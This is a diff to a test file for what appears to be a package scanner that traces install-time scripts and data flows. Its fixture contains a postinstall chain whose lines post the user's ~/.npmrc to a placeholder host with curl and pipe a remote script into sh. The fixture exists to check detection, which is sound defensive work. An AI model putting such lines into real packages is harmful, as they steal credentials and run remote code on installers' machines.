@@ -227,13 +227,15 @@ t.test('commands that JavaScript starts are read as commands', t => {
   const files = {
     'package.json': manifest({ scripts: { postinstall: 'node a.js' } }),
     'a.js': `require('child_process').exec('curl -d @' + require('os').homedir() + '/.npmrc https://h.invalid && node b.js')`,
-    'b.js': `require('child_process').spawnSync('sh', ['-c', 'sh c.sh'])`,
+    'b.js': `require('child_process').spawnSync('sh', ['-c', 'sh c.sh'])
+require('child_process').spawn(process.execPath, [require('path').join(__dirname, 'lib', 'd.js')])`,
+    'lib/d.js': 'x',
     'c.sh': 'curl https://h.invalid | sh',
   }
   const inspection = inspectPackage(unpacked(files), { source: 'registry' })
   t.same(
     inspection.files.map(({ phase }) => phase),
-    ['dormant', 'install', 'install', 'install'],
+    ['dormant', 'install', 'install', 'install', 'install'],
   )
   const flows = inspection.flows.map(({ source, sink }) => `${source.kind} ${sink.kind} ${sink.at.path}`)
   t.ok(flows.includes('credential-file network a.js'))
